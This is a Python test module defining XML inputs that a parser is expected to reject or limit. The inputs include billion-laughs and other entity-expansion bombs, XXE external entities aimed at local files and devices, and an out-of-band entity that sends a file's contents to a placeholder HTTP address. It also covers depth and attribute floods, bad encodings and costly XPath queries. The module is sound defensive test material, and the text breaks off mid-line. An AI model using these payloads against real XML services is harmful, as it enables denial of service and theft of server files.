"""The rows of the attack table whose bodies are XML.

Every place is marked in its body by `‸`. For what is wrong as a whole it is the beginning (a document
type, a reference, an end tag), else the first character that cannot stand there; for a body that is
cut short it is the end.
"""

import gzip
import zlib

from rows import (
    EMPTY, LONGEST, MISMATCH, MISSING, NULL, OVERLONG, Number, counted, encoding, failed, filled,
    limit, malformed, mapped, table, text,
)

ROWS, row = table("xml", "r.a")

DEPTH = limit("xmlDepth", 256)
ATTRIBUTES = limit("xmlAttributes", 256)
TOKEN = limit("xmlTokenBytes", 65536)
FIELD_TEXT = limit("xmlFieldTextBytes", 1048576)
DOCTYPE = malformed("it has a document type declaration")
HTML = malformed("it is a page of HTML")
CUT_SHORT = malformed("it is cut short")
SEVERAL = ["RM418"]
XSI = "xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'"


def cut_short(element):
    return malformed(f"it is cut short: the element `{element}` does not end")


# --- Document types, which are refused where they begin: entities


def doubled_parameters():
    """Parameter entities of which each holds two of the next, in less than 1 KB."""
    levels = [f"<!ENTITY % p{n} '&#37;p{n - 1};&#37;p{n - 1};'>" for n in range(1, 26)]
    return f"‸<!DOCTYPE r [<!ENTITY % p0 ''>{''.join(levels)}%p25;]><r><a>x</a></r>"


def laughs(use):
    levels = [f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10)]
    return f"‸<!DOCTYPE r [<!ENTITY l0 'lol'>{''.join(levels)}]>{use}"


row("nested parameter entities in 1 KB", doubled_parameters(), DOCTYPE)
row("billion laughs", laughs("<r><a>&l9;</a></r>"), DOCTYPE)
row("billion laughs in an attribute", laughs("<r><a b='&l9;'>x</a></r>"), DOCTYPE)
row("billion laughs behind a prolog",
    "<?xml version='1.0'?>\n<!-- x -->\r\n<?y z?> " + laughs("<r><a>&l9;</a></r>"), DOCTYPE)
row("billion laughs in UTF-16", text(laughs("<r><a>&l9;</a></r>"), "utf-16-le", b"\xFF\xFE"),
    DOCTYPE)
row("quadratic blow-up",
    lambda: filled(f"‸<!DOCTYPE r [<!ENTITY e '{'x' * 50_000}'>]><r><a>", "&e;", "</a></r>"), DOCTYPE)
row("entities that hold each other",
    "‸<!DOCTYPE r [<!ENTITY e '&f;'><!ENTITY f '&e;'>]><r><a>&e;</a></r>", DOCTYPE)
row("an entity that redefines the predefined ones",
    "‸<!DOCTYPE r [<!ENTITY amp '&#38;#60;x>'>]><r><a>&amp;</a></r>", DOCTYPE)
row("1,000 attributes by default",
    "‸<!DOCTYPE r [<!ATTLIST r " + "".join(f"a{n} CDATA 'x' " for n in range(1000))
    + ">]><r><a>x</a></r>", DOCTYPE)
row("100,000 entities and no end",
    lambda: counted("‸<!DOCTYPE r [", lambda n: f"<!ENTITY e{n} 'x'>", "", 2_500_000), DOCTYPE)
row("a document type of 10 MB of comments",
    lambda: filled("‸<!DOCTYPE r [", "<!-- x -->", "]><r><a>x</a></r>"), DOCTYPE)
row("a document type whose address is 10 MB",
    lambda: filled("‸<!DOCTYPE r SYSTEM '", "x", "'><r><a>x</a></r>"), DOCTYPE)

# --- Document types: files and addresses

for kind, url in [
    ("a file", "@FILE@/canary.txt"), ("a path", "@FOLDER@/canary.txt"), ("a name", "canary.txt"),
    ("a pipe", "@FILE@/canary.fifo"), ("HTTP", "@HTTP@/canary.txt"), ("FTP", "@FTP@/canary.txt"),
    ("a device", "file:///dev/zero"),
]:
    row(f"an external entity: {kind}",
        f"‸<!DOCTYPE r [<!ENTITY e SYSTEM '{url}'>]><r><a>&e;</a></r>", DOCTYPE)
    row(f"an external parameter entity: {kind}",
        f"‸<!DOCTYPE r [<!ENTITY % e SYSTEM '{url}'>%e;]><r><a>&canary;</a></r>", DOCTYPE)
    row(f"an external document type: {kind}",
        f"<?xml version='1.0' standalone='no'?>‸<!DOCTYPE r SYSTEM '{url}'><r><a>x</a></r>", DOCTYPE)
row("an external entity with a public name",
    "‸<!DOCTYPE r [<!ENTITY e PUBLIC '-//X//Y' '@HTTP@/'>]><r><a>&e;</a></r>", DOCTYPE)
row("parameter entities of an external subset",
    "‸<!DOCTYPE r SYSTEM '@FILE@/canary.dtd' [<!ENTITY % e '&#37;canary;'>%e;%canary;]>"
    "<r><a>&canary;</a></r>", DOCTYPE)
row("an entity that sends a file's text to an address",
    "‸<!DOCTYPE r [<!ENTITY % f SYSTEM '@FILE@/canary.txt'><!ENTITY % d SYSTEM '@FILE@/canary.dtd'>"
    "%d;<!ENTITY % s \"<!ENTITY e SYSTEM '@HTTP@/?%f;'>\">%s;]><r><a>&e;</a></r>", DOCTYPE)
row("an unparsed entity",
    "‸<!DOCTYPE r [<!NOTATION n SYSTEM '@HTTP@/'><!ENTITY e SYSTEM '@FILE@/canary.txt' NDATA n>]>"
    "<r><a b='e'>x</a></r>", DOCTYPE)

# --- Document types that are none, or stand elsewhere

row("a page of HTML", "‸<!DOCTYPE html>\n<html><body><br>Sign in</body></html>", HTML)
row("a page of HTML under its own type", "\n‸<!doctype HTML><html><body><br></body></html>",
    malformed("HTML", warnings=["RM311"]), content_type="text/html; charset=utf-8")
row("a page of XHTML 1.0",
    "‸<!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN'"
    " 'http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd'><html/>", HTML)
row("a document type with `<` in its address", "‸<!DOCTYPE r SYSTEM '<r>'><r><a>x</a></r>", DOCTYPE)
row("a document type within the root", "<r>‸<!DOCTYPE r><a>x</a></r>", malformed())
row("a document type behind the root", "<r><a>x</a></r>‸<!DOCTYPE r>", malformed())
row("`<!DOCTYPE` in comments, sections and instructions",
    "<!-- <!DOCTYPE r> --><?p <!DOCTYPE r [?><r><!--<!DOCTYPE r [<!ENTITY e 'x'>]>-->"
    "<a><![CDATA[<!DOCTYPE r>]]></a></r>", mapped("<!DOCTYPE r>"))
row("an entity that is not declared", "<r>\n<a>x‸&nope;</a></r>", malformed("is not declared"))
row("1,000,000 entities that are not declared",
    lambda: filled("<r><a>‸", "&nope;", "</a></r>", 6_000_000), malformed("is not declared"))

# --- Other ways to files and addresses

for kind, url in [("a file", "@FILE@/canary.xml"), ("a name", "canary.xml"), ("HTTP", "@HTTP@/")]:
    row(f"XInclude of {kind}",
        f"<r xmlns:xi='http://www.w3.org/2001/XInclude'><a>x</a><xi:include href='{url}'/>"
        f"<xi:include href='{url}' parse='text'/></r>", mapped("x", EMPTY, warnings=SEVERAL),
        ["r.a", "r.xi:include"])
    row(f"schemas, style sheets and bases of {kind}",
        f"<?xml-stylesheet type='text/xsl' href='{url}'?><?xml-model href='{url}'?>"
        f"<r {XSI} xsi:schemaLocation='u {url}' xsi:noNamespaceSchemaLocation='{url}'"
        f" xml:base='{url}' xmlns='{url}'><a>x</a></r>", mapped("x"))

# --- Depth


def deep(levels, core="x", name="r"):
    return f"<{name}>" * levels + core + f"</{name}>" * levels


row("256 deep", deep(256), mapped(MISSING))
row("256 deep, mapped to the bottom", deep(256), mapped("x"), [".".join(["r"] * 256)])
row("257 deep", deep(257), DEPTH)
row("100,000 deep", lambda: deep(100_000), DEPTH)
row("100,000 deep and no end", lambda: "<a>" * 100_000, DEPTH)
row("1,000,000 deep", lambda: deep(1_000_000), DEPTH)
row("1,000,000 deep under different names",
    lambda: counted("", lambda n: f"<n{n}>", ""), DEPTH)
row("10 MB of an unmapped subtree 255 deep",
    lambda: filled("<r>", deep(254, "<b/>"), "<a>x</a></r>"), mapped("x"))

# --- Attributes and namespaces


def tag(attributes, declarations=0):
    list = [f" xmlns:n{n}='u{n}'" for n in range(declarations)]
    return "".join(list + [f" a{n}=''" for n in range(attributes)])


row("256 attributes", f"<r><a{tag(256)}>x</a></r>", mapped("x"))
row("257 attributes", f"<r><a{tag(257)}>x</a></r>", ATTRIBUTES)
row("256 namespaces", f"<r><a{tag(0, 256)}>x</a></r>", mapped("x"))
row("257 namespaces", f"<r><b{tag(0, 257)}/><a>x</a></r>", ATTRIBUTES)
row("128 attributes and 128 namespaces", f"<r><a{tag(128, 128)}>x</a></r>", mapped("x"))
row("128 attributes and 129 namespaces", f"<r><a{tag(128, 129)}>x</a></r>", ATTRIBUTES)
row("5,000 attributes", f"<r><b{tag(5000)}/><a>x</a></r>", ATTRIBUTES)
row("200,000 attributes", lambda: f"<r{tag(200_000)}><a>x</a></r>", ATTRIBUTES)
row("200,000 namespaces", lambda: f"<r{tag(0, 200_000)}><a>x</a></r>", ATTRIBUTES)
row("200,000 times an attribute", lambda: "<r" + " b=''" * 200_000 + "/>", ATTRIBUTES)
row("10 MB of elements with 256 attributes",
    lambda: filled("<r>", f"<b{tag(256)}/>", "<a>x</a></r>"), mapped("x"))
row("255 levels of 200 namespaces",
    "<r>" + f"<b{tag(0, 200)}>" * 255 + "</b>" * 255 + "<a>x</a></r>", mapped("x"))
row("an attribute twice", "<r>‸<a b='1' b='2'>x</a></r>", malformed("more than once"))
row("an attribute twice by its namespace",
    "<r>\n ‸<a xmlns:p='u' xmlns:q='u' p:b='1' q:b='2'>x</a></r>", malformed("more than once"))
row("a prefix that is not declared", "<r>‸<p:a>x</p:a></r>", malformed("prefix"))
row("the prefix xmlns, declared", "<r>‸<a xmlns:xmlns='u'>x</a></r>", malformed())
row("the prefix xml, bound elsewhere", "<r>‸<a xmlns:xml='u'>x</a></r>", malformed())

# --- Long pieces of markup

row("a tag of 10 MB of white space", lambda: filled("<r", " ", "><a>x</a></r>"), TOKEN)
row("an end tag of 10 MB of white space", lambda: filled("<r><a>x</a", " ", "></r>"), TOKEN)
row("an attribute of 10 MB", lambda: filled("<r b='", "x", "'><a>x</a></r>"), TOKEN)
row("an attribute of 10 MB of references", lambda: filled("<r b='", "&amp;", "'><a>x</a></r>"), TOKEN)
row("an attribute of 10 MB of `>`", lambda: filled("<r b='", ">", "'><a>x</a></r>"), TOKEN)
row("an attribute without an end", lambda: filled("<r><a b='", "x", ""), TOKEN)
row("a comment of 10 MB", lambda: filled("<r><!--", "x", "--><a>x</a></r>"), TOKEN)
row("a comment of 10 MB of hyphens apart", lambda: filled("<r><!--", "- ", "--><a>x</a></r>"), TOKEN)
row("a comment of 10 MB before the root", lambda: filled("<!--", "x", "--><r/>"), TOKEN)
row("a comment of 10 MB behind the root", lambda: filled("<r/><!--", "x", "-->"), TOKEN)
row("a comment without an end", lambda: filled("<r><!--", "-> ", ""), TOKEN)
row("an instruction of 10 MB", lambda: filled("<r><?p ", "x", "?><a>x</a></r>"), TOKEN)
row("an instruction of 10 MB of `?`", lambda: filled("<r><?p ", "?", "?><a>x</a></r>"), TOKEN)
row("a declaration of 10 MB", lambda: filled("<?xml version='1.0'", " ", "?><r/>"), TOKEN)
row("an encoding name of 10 MB",
    lambda: filled("<?xml version='1.0' encoding='", "x", "'?><r/>"), TOKEN)
row("a comment of 60,000 bytes", f"<r><!--{'x' * 60_000}--><a>x</a></r>", mapped("x"))
row("10 MB of comments", lambda: filled("<r>", "<!-- x -->", "<a>x</a></r>"), mapped("x"))
row("10 MB of instructions", lambda: filled("<r>", "<?p x?>", "<a>x</a></r>"), mapped("x"))

# --- Names

row("a name of 65,533 bytes", f"<r><{'n' * 65_533}/><a>x</a></r>", mapped("x"))
row("a name of 65,534 bytes", f"<r><{'n' * 65_534}/><a>x</a></r>", TOKEN)
row("a name of 10 MB", lambda: filled("<r><", "n", "/><a>x</a></r>"), TOKEN)
row("a name of 10 MB of an attribute", lambda: filled("<r><b ", "n", "=''/></r>"), TOKEN)
row("a prefix of 10 MB", lambda: filled("<r><", "n", ":b/></r>"), TOKEN)
row("900,000 names", lambda: counted("<r>", lambda n: f"<n{n}/>", "<a>x</a></r>"), mapped("x"))
row("900,000 names of attributes",
    lambda: counted("<r>", lambda n: f"<n a{n}=''/>", "<a>x</a></r>"), mapped("x"))
row("500,000 prefixes",
    lambda: counted("<r>", lambda n: f"<p{n}:n xmlns:p{n}='u'/>", "<a>x</a></r>"), mapped("x"))
row("500,000 namespaces",
    lambda: counted("<r>", lambda n: f"<n xmlns='u{n}'/>", "<a>x</a></r>"), mapped("x"))
row("900,000 names of instructions",
    lambda: counted("<r>", lambda n: f"<?n{n}?>", "<a>x</a></r>"), mapped("x"))
row("200 names of 40,000 bytes",
    lambda: counted("<r>", lambda n: f"<{'n' * 40_000}{n}/>", "<a>x</a></r>", 8_000_000),
    mapped("x"))

# --- Many elements

row("10 MB of elements of one name", lambda: filled("<r>", "<b/>", "<a>x</a></r>"), mapped("x"))
row("1,000,000 siblings of the wanted name",
    lambda: filled("<r><a>x</a>", "<a>y</a>", "</r>", 8_000_000), mapped("x", warnings=SEVERAL))
row("the last of 1,000,000 siblings", lambda: "<r>" + "<a>x</a>" * 999_999 + "<a>last</a></r>",
    mapped("last", MISSING, "x"), ["r.a[999999]", "r.a[1000000]", "r.a[0]"])
row("1,000 mappings into 1,000,000 siblings", lambda: "<r>" + "<a>x</a>" * 1_000_000 + "</r>",
    mapped(*["x"] * 1000), [f"r.a[{n * 1000}]" for n in range(1000)])
row("1,000 mappings over 10 MB of other names",
    lambda: filled("<r>", "".join(f"<b{n}/>" for n in range(4000)), "</r>"),
    mapped(*[MISSING] * 1000), [f"r.key-number-{n}" for n in range(1000)],
    known="1,200,000 elements, and a tenth of a second for near names", seconds=0.5)
row("1,000 mappings over 10 MB of the wanted names",
    lambda: filled("<r>", "".join(f"<k{n}>x</k{n}>" for n in range(1000)), "</r>"),
    mapped(*["x"] * 1000, warnings=SEVERAL * 1000), [f"r.k{n}" for n in range(1000)])
row("1,000 mappings that share a path of 20 names",
    lambda: filled("<r>", f"{'<p>' * 20}<z/>{'</p>' * 20}", "</r>"),
    mapped(*[MISSING] * 1000, warnings=SEVERAL * 1000),
    [f"r.{'p.' * 20}k{n}" for n in range(1000)])
row("1,000 mappings that share all but the last of 20 names",
    lambda: filled("<r>" + "<p>" * 20, "".join(f"<k{n}>x</k{n}>" for n in range(1000)),
                   "</p>" * 20 + "</r>"),
    mapped(*["x"] * 1000, warnings=SEVERAL * 1000), [f"r.{'p.' * 20}k{n}" for n in range(1000)],
    known="700,000 elements that each may be wanted, and 0.05 s for the mapping", seconds=0.5)
row("1,000 misspelled names among 4,000",
    "<r>" + "".join(f"<prefix{n}y/>" for n in range(4000)) + "</r>",
    mapped(*[MISSING] * 1000), [f"r.prefix{n}x" for n in range(1000)])
row("10 MB of elements named like a long key but for its end",
    lambda: filled("<r>", f"<{'k' * 250}y/>", "</r>"), mapped(MISSING), [f"r.{'k' * 250}x"])

# --- Text

row("a text of 10 MB", lambda: filled("<r><b>", "x", "</b><a>x</a></r>"), mapped("x"))
row("a text of 10 MB, mapped", lambda: filled("<r><a>", "x", "</a></r>"), FIELD_TEXT)
row("a section of 10 MB", lambda: filled("<r><b><![CDATA[", "x", "]]></b><a>x</a></r>"), mapped("x"))
row("a section of 10 MB, mapped", lambda: filled("<r><a><![CDATA[", "x", "]]></a></r>"), FIELD_TEXT)
row("a section of 10 MB of brackets",
    lambda: filled("<r><b><![CDATA[", "]", "]]></b><a>x</a></r>"), mapped("x"))
row("a section of 10 MB of line ends",
    lambda: filled("<r><b><![CDATA[", "\r\n", "]]></b><a>x</a></r>"), mapped("x"))
row("a section without an end", lambda: filled("<r><b><![CDATA[", "x", "‸"), cut_short("b"))
row("10 MB of sections", lambda: filled("<r><b>", "<![CDATA[x]]>", "</b><a>x</a></r>"), mapped("x"))
row("a text of 10 MB of brackets", lambda: filled("<r><b>", "]", "</b><a>x</a></r>"), mapped("x"))
row("a text of 10 MB of `]]` and `>` apart",
    lambda: filled("<r><b>", "]] >", "</b><a>x</a></r>"), mapped("x"))
row("`]]>` behind 10 MB", lambda: filled("<r><a>x</a><b>", "x", "‸]]></b></r>"), malformed("]]>"))
row("a text of 1 MiB, mapped", lambda: f"<r><a>{'x' * 1048576}</a></r>", mapped(OVERLONG))
row("a text of 1 MiB and one byte, mapped", lambda: f"<r><a>{'x' * 1048577}</a></r>", FIELD_TEXT)
row("10 MB of white space, mapped", lambda: filled("<r><a>", " \t\r\n", "</a></r>"), FIELD_TEXT)
row("1 MiB of white space around a number",
    lambda: filled("<r><a>", " ", "42</a></r>", 1_048_000), mapped(Number("42")), ["r.a : integer"])
row("a number of 1 MB of digits", lambda: f"<r><a>{'9' * 1_000_000}</a></r>", mapped(MISMATCH),
    ["r.a : integer"])
row("1,000,000 pieces in a mapped text",
    lambda: f"<r><a>{'x<!---->' * 1_000_000}</a></r>", mapped(OVERLONG))
row("1,000,000 pieces between children",
    lambda: f"<r><a>{'x<b/>y' * 1_000_000}</a></r>", mapped(MISMATCH))
row("10 MB of `&lt;`", lambda: filled("<r>", "&lt;", "<a>x</a></r>"), mapped("x"))
row("10 MB of `&lt;`, mapped", lambda: filled("<r><a>", "&lt;", "</a></r>"), FIELD_TEXT)
row("10 MB of character references", lambda: filled("<r>", "&#65;", "<a>x</a></r>"), mapped("x"))
row("a character reference of 10 MB", lambda: filled("<r><a>&#x", "0", "41;</a></r>"), mapped("A"))
row("a character reference beyond 64 bits", "<r><a>‸&#18446744073709551681;</a></r>", malformed())
row("a reference of 10 MB without an end", lambda: filled("<r><a>‸&", "a", ""), malformed("`&`"))
row("10 MB of `&`", lambda: filled("<r><a>‸", "&", "</a></r>"), malformed("`&`"))
row("10 MB of `<`", lambda: filled("<r><a>‸", "<", "</a></r>"), malformed("begins no tag"))
row("nothing but 10 MB of `<`", lambda: filled("‸", "<", ""), malformed("begins no tag"))
row("nothing but 10 MB of `>`", lambda: filled("‸", ">", ""), malformed())
row("10 MB of white space before the root", lambda: filled("", "\n", "<r><a>x</a></r>"), mapped("x"))
row("10 MB of white space within the root",
    lambda: filled("<r>", "\r\n", "<a>x</a></r>"), mapped("x"))
row("10 MB of white space behind the root", lambda: filled("<r><a>x</a></r>", " ", ""), mapped("x"))
row("10 MB of white space and no root",
    lambda: filled("", " \t\r\n", ""), failed("emptyBody", "webhook.1001"))

# --- xsi:nil

row("xsi:nil over a text", f"<r><a {XSI} xsi:nil='true'>x</a></r>", mapped(NULL))
row("xsi:nil over 10 MB of text", lambda: filled(f"<r><a {XSI} xsi:nil='1'>", "x", "</a></r>"),
    mapped(NULL))
row("xsi:nil over children", f"<r><a {XSI} xsi:nil='true'><b>x</b></a></r>", mapped(NULL))
row("xsi:nil by references and white space",
    f"<r><a {XSI} xsi:nil=' &#116;rue&#x20;'>x</a></r>", mapped(NULL))
row("xsi:nil under another prefix",
    "<r><a xmlns:nil='http://www.w3.org/2001/XMLSchema-instance' nil:nil='1'>x</a></r>",
    mapped(NULL))
row("xsi in another namespace", "<r><a xmlns:xsi='urn:x' xsi:nil='true'>x</a></r>", mapped("x"))
row("nil without a namespace", f"<r><a {XSI} nil='true'>x</a></r>", mapped("x"))
row("xsi:nil without a truth value", f"<r><a {XSI} xsi:nil='TRUE'>x</a></r>", mapped("x"))
row("xsi:nil of 60,000 bytes", f"<r><a {XSI} xsi:nil='true{'x' * 60_000}'>x</a></r>", mapped("x"))
row("10 MB of elements with xsi:nil",
    lambda: filled(f"<r {XSI}>", "<a xsi:nil='true'/>", "</r>"), mapped(NULL, warnings=SEVERAL))

# --- Encodings

row("UTF-7 by its declaration", "<?xml version='1.0' encoding='UTF-7'?><r><a>+ADw-b/+AD4-</a></r>",
    encoding("`UTF-7`"))
row("UTF-7 by its content type", "<r><a>+ADw-b/+AD4-</a></r>", encoding("`utf-7`"),
    content_type="text/xml; charset=utf-7")
for name in ["ISO-2022-JP", "GB18030", "IBM037", "HZ-GB-2312", "x-user-defined", "UTF-32"]:
    row(f"{name} by its declaration", f"<?xml version='1.0' encoding='{name}'?><r><a>x</a></r>",
        encoding(f"`{name}`"))
for name, bytes in [
    ("UTF-16LE without a mark", "<r><a>x</a></r>".encode("utf-16-le")),
    ("UTF-16BE without a mark", "<r><a>x</a></r>".encode("utf-16-be")),
    ("UTF-32LE", "<r><a>x</a></r>".encode("utf-32-le")),
    ("UTF-32BE", "<r><a>x</a></r>".encode("utf-32-be")),
    ("UTF-32LE with a mark", b"\xFF\xFE\0\0" + "<r><a>x</a></r>".encode("utf-32-le")),
    ("UTF-32BE with a mark", b"\0\0\xFE\xFF" + "<r><a>x</a></r>".encode("utf-32-be")),
    ("EBCDIC", "<?xml version='1.0' encoding='cp037'?><r><a>x</a></r>".encode("cp037")),
    ("gzip", gzip.compress(b"<r><a>x</a></r>")), ("Zstandard", b"\x28\xB5\x2F\xFD\x24\x0F\x79"),
    ("deflate", zlib.compress(b"<r><a>x</a></r>")),
    ("gzip of 100 MB of blanks", lambda: gzip.compress(b"<r>" + b" " * 100_000_000)),
]:
    row(f"XML: {name}", bytes, encoding(name.split()[0][:6]))
row("UTF-16LE, said to be UTF-8",
    text("<?xml version='1.0' encoding='UTF-8'?><r><a>x</a></r>", "utf-16-le", b"\xFF\xFE"),
    encoding("UTF-8"))
row("UTF-8, said to be UTF-16", "<?xml version='1.0' encoding='UTF-16'?><r><a>x</a></r>",
    encoding("UTF-16"))
row("UTF-8 with a mark, said to be ISO-8859-1",
    text("<?xml version='1.0' encoding='ISO-8859-1'?><r><a>x</a></r>", "utf-8", b"\xEF\xBB\xBF"),
    encoding("ISO-8859-1", warnings=["RM312"]))
row("a content type against a declaration",
    "<?xml version='1.0' encoding='ISO-8859-1'?><r><a>x</a></r>", encoding("ISO-8859-1"),
    content_type="application/xml; charset=UTF-8")
row("a content type against a mark", text("<r><a>x</a></r>", "utf-8", b"\xEF\xBB\xBF"),
    encoding("US-ASCII", warnings=["RM312"]), content_type="text/xml; charset=us-ascii")
row("a byte beyond US-ASCII", "<?xml version='1.0' encoding='US-ASCII'?>\n<r><a>‸é</a></r>",
    encoding("US-ASCII"))
row("a byte that windows-1252 lacks",
    text("<?xml version='1.0' encoding='windows-1252'?><r><a>‸\x81</a></r>", "latin-1"),
    encoding("windows-1252"))
row("half of a surrogate pair in UTF-16",
    b"\xFE\xFF" + "<r><a>".encode("utf-16-be") + b"\xD8\x00" + "</a></r>".encode("utf-16-be"),
    encoding("UTF-16")._replace(
        has_place=False, outcome=encoding("UTF-16").outcome | {"offset": 14, "line": 1, "column": 8}))
row("half of a character at the end of UTF-16",
    text("<r><a>x</a></r>", "utf-16-le", b"\xFF\xFE").content + b"\n",
    encoding("UTF-16")._replace(
        has_place=False,
        outcome=encoding("UTF-16").outcome | {"offset": 32, "line": 1, "column": 17}))
for name, sequence in [
    ("an overlong `<`", "\udcc0\udcbc"), ("an overlong NUL", "\udcc0\udc80"),
    ("an overlong `/` of three bytes", "\udce0\udc80\udcaf"), ("a surrogate", "\udced\udca0\udc80"),
    ("a character beyond Unicode", "\udcf4\udc90\udc80\udc80"), ("a lone continuation", "\udc80"),
    ("a byte 0xFF", "\udcff"), ("a character that is cut off", "\udce2\udc82"),
]:
    row(f"UTF-8: {name}", f"<r><a>\n é‸{sequence}</a></r>", encoding("UTF-8"))
for name, body in [
    ("an unmapped text", "<r><b>‸\udcff</b><a>x</a></r>"), ("a comment", "<r><!--‸\udcff--></r>"),
    ("an attribute", "<r b='‸\udcff'/>"), ("a name", "<r><b‸\udcff/></r>"),
    ("a section", "<r><![CDATA[‸\udcff]]></r>"), ("an instruction", "<r><?p ‸\udcff?></r>"),
    ("what is behind the root", "<r><a>x</a></r><!--‸\udcff-->"),
]:
    row(f"invalid UTF-8 in {name}", body, encoding("UTF-8"))
row("invalid UTF-8 behind 10 MB",
    lambda: filled("<r><b>", "é", "‸\udcff</b></r>", LONGEST - 2), encoding("UTF-8"))
row("a mark twice", text("‸\uFEFF<r><a>x</a></r>", "utf-8", b"\xEF\xBB\xBF"),
    malformed(warnings=["RM312"]))

# --- Characters

row("a NUL in a text", "<r><a>x‸\0</a></r>", malformed("character"))
row("a NUL in a comment", "<r><!-- ‸\0 --><a>x</a></r>", malformed("character"))
row("a NUL behind the root", "<r><a>x</a></r>‸\0", malformed())
row("10 MB of NUL behind the root", lambda: filled("<r><a>x</a></r>‸", "\0", ""), malformed())
row("a NUL behind 10 MB", lambda: filled("<r><b>", "x", "‸\0</b></r>"), malformed())
for name, character in [
    ("U+0001", "\x01"), ("U+000B", "\x0B"), ("U+001B", "\x1B"), ("U+FFFE", "\uFFFE"),
    ("U+FFFF", "\uFFFF"),
]:
    row(f"{name} in a text", f"<r><a>x‸{character}</a></r>", malformed("character"))
for reference in ["&#0;", "&#1;", "&#xD800;", "&#xFFFF;", "&#x110000;", "&#xFFFFFFFF41;"]:
    row(f"the reference {reference}", f"<r><a>x‸{reference}</a></r>", malformed())

# --- Cut short, and too much

for place, body, element in [
    ("`<`", "<r><a>x<", "a"), ("a name", "<r><a>x<b", "a"), ("a tag", "<r><a>x<b ", "a"),
    ("an attribute", "<r><a>x<b c", "a"), ("a value", "<r><a>x<b c='d", "a"),
    ("a text", "<r><a>x", "a"),
    ("a reference", "<r><a>x&am", "a"), ("a character reference", "<r><a>x&#x4", "a"),
    ("`<!`", "<r><a>x<!", "a"), ("a comment", "<r><a>x<!-- y -", "a"),
    ("the word CDATA", "<r><a>x<![CDA", "a"), ("a section", "<r><a>x<![CDATA[y]]", "a"),
    ("an instruction", "<r><a>x<?p y?", "a"), ("`</`", "<r><a>x</", "a"),
    ("an end tag", "<r><a>x</a", "a"), ("an end tag's white space", "<r><a>x</a ", "a"),
    ("the root", "<r><a>x</a>", "r"), ("the last tag", "<r><a>x</a></r", "r"),
]:
    row(f"cut short in {place}", body + "‸", cut_short(element))
for place, body, expected in [
    ("an empty tag", "<r><a>x<b/", cut_short("a")),
    ("the end of a comment", "<r><a>x<!-- y --", cut_short("a")),
    ("a word of the declaration", "<?xml version='1.0' enc", CUT_SHORT),
]:
    row(f"cut short in {place}", body + "‸", expected)
row("cut short in the prolog", "<?xml version='1.0'?>\n‸", malformed("it has no element"))
for place, body in [
    ("the declaration", "<?xml version='1.0' "), ("the root's tag", "<r b='c'"),
    ("a comment before the root", "<!-- x --><!-- "),
]:
    row(f"cut short in {place}", body + "‸", CUT_SHORT)
row("cut short within a character", "<r><a>x\udce2‸", cut_short("a"))
row("an unfinished character within a text", "<r><a>x‸\udce2\udc82</a></r>", encoding("UTF-8"))
row("an unfinished character behind the root", "<r><a>x</a></r>‸\udce2", encoding("UTF-8"))
row("cut short after 10 MB", lambda: filled("<r><a>x</a><b>", "x", "‸"), cut_short("b"))
for name, body in [
    ("a text", "<r><a>x</a></r>‸x"), ("an element", "<r><a>x</a></r>‸<r/>"),
    ("an end tag", "<r><a>x</a></r>‸</r>"), ("a reference", "<r><a>x</a></r>\n‸&#32;"),
    ("a section", "<r><a>x</a></r>‸<![CDATA[x]]>"), ("JSON", "<r><a>x</a></r>\n‸{}"),
]:
    row(f"behind the root: {name}", body, malformed("follows the end of the root"))
row("10 MB of roots", lambda: filled("<r><a>x</a></r>‸", "<r/>", ""),
    malformed("follows the end of the root"))
row("a text before the root", "‸x<r><a>x</a></r>", malformed())
row("JSON for XML", '‸{"r":{"a":"x"}}', malformed())
row("JSON for XML under its own type", '{"r":{"a":"x"}}', failed("contentTypeMismatch", "RM302"),
    content_type="application/json")
row("an end tag of another element", "<r><a>x‸</b></r>", malformed("`a`"))
row("10 MB of end tags", lambda: filled("<r></r>‸", "</r>", ""), malformed())

# --- Longer than 10 MB: the right answer counts

row("a text of 60 MB", lambda: filled("<r><b>", "x", "</b><a>x</a></r>", 60_000_000), mapped("x"))
row("60 MB of elements", lambda: filled("<r>", "<b/>", "<a>x</a></r>", 60_000_000), mapped("x"))
row("60 MB of white space behind the root",
    lambda: filled("<r><a>x</a></r>", " ", "", 60_000_000), mapped("x"))
row("a text of 64 MiB and one byte", lambda: f"<r>{'x' * 67_108_865}</r>",
    limit("xmlTextBytes", 67108864))


# --- Expressions that ask for more than a document of that length should cost

STEPS = limit("querySteps", 2_000_000)
FLAT = lambda: "<r>" + "<a>abcdefghijklmnopqr</a>" * 24_000 + "</r>"
DEEP = lambda: "<r>" + ("<a>" * 200 + "x" * 200 + "</a>" * 200) * 200 + "</r>"
LONG = lambda: "<r>" + "<a>" * 200 + "ab " * 300_000 + "</a>" * 200 + "</r>"

for path in [
    '//a[contains(string(/), "~")]', '//a[starts-with(string(/), string(/r))]',
    '//a[substring-before(string(/), string(/r/a[last()])) = "x"]',
    '//a[substring-after(string(/), "~") = "x"]', '//a[string-length(/) = 1]',
    '//a[normalize-space(/) = "x"]', '//a[translate(/, "abc", "cba") = "x"]',
    '//a[substring(/, 2, 400000) = "x"]', '//a[concat(/, /) = "x"]', '//a[string(/) = /]',
    '//a[//a = "~"]', '//a[//a != //a]', '//a[//a = //b | //a]', '//a[//a < //a]', '//a[sum(//a) = 1]',
    '//a[id(/)]', '//a[count(//a) = 1]', '//a[number(/) = 1]', '//a[-/ = 1]', '//a[/ + 1 = 1]',
    '//a[preceding::a[. = "~"]]', '//a[following::a/preceding::a]', '//a/following::a/..',
    '//a[(//a | //text())[last()] = "~"]', '//a[preceding-sibling::a[last()] = "~"]',
]:
    row(f"{path} in a wide document", FLAT, STEPS, paths=[path])
for path in [
    '//a[.//b]', '//a[ancestor::a[. = "~"]]', '//a/ancestor::a//a[2]',
    '//a[count(.//a//a) = 1]', '//a[descendant::a = "~"]', '//a[lang("de")]',
]:
    row(f"{path} in a deep document", DEEP, STEPS, paths=[path])
for path in ['//a[normalize-space() = "x"]', '//a[translate(., "a", "b") = "x"]', '//a[number() = 1]']:
    row(f"{path} in long texts that nest", LONG, STEPS, paths=[path])
for path, result in [
    ("(//a = //b)", "false"), ("(//a != //a)", "false"), ("(//a < //a)", "false"),
    ("(count(//a/..))", Number("1")), ("(count(//a | //a | /r/a))", Number("24000")),
    ("(count((//a)[last()]/preceding::a))", Number("23999")),
]:
    row(f"{path} in a wide document", FLAT, mapped(result), paths=[
